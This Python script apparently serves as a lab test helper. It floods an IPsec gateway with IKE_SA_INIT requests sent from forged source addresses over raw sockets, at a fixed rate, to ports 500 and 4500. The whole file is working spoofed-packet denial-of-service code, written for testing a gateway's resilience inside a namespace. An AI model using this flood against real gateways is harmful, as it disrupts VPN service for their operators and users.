"""Floods a gateway with IKE_SA_INIT requests from forged sources, at a steady pace.

    flood.py TARGET PEER RATE SECONDS TEMPLATE

Run inside a namespace by test_flood.py. TEMPLATE is, in hex, a request that the target would
accept. Every copy has a new initiator SPI and goes to port 500 or, behind the non-ESP marker, to
port 4500; one half comes from the address PEER, the other from anywhere. Prints what was sent as
JSON.
"""

import ipaddress
import json
import random
import socket
import struct
import sys
import time

PEER_PORTS = (1024, 65535)


def forged(template: bytes, source: str, target: str, dice: random.Random) -> bytes:
    port = dice.choice((500, 4500))
    payload = dice.randbytes(8) + template[8:]
    if port == 4500:
        payload = b"\0\0\0\0" + payload
    udp = struct.pack("!HHHH", dice.randint(*PEER_PORTS), port, 8 + len(payload), 0) + payload
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
        socket.inet_aton(source), socket.inet_aton(target),
    )  # fmt: skip
    return header + udp


def anywhere(dice: random.Random) -> str:
    # Unicast addresses that are neither loopback nor of the lab.
    return str(ipaddress.IPv4Address(dice.randrange(0x0B000000, 0x7F000000)))


def main() -> None:
    target, peer, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    template = bytes.fromhex(sys.argv[5])
    dice = random.Random(7)
    count = 0
    began = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        print("flooding", flush=True)
        while (elapsed := time.monotonic() - began) < seconds:
            while count < elapsed * rate:
                source = peer if count % 2 else anywhere(dice)
                out.sendto(forged(template, source, target, dice), (target, 0))
                count += 1
            time.sleep(0.001)
    print(json.dumps({"sent": count, "seconds": round(time.monotonic() - began, 3)}))


if __name__ == "__main__":
    main()
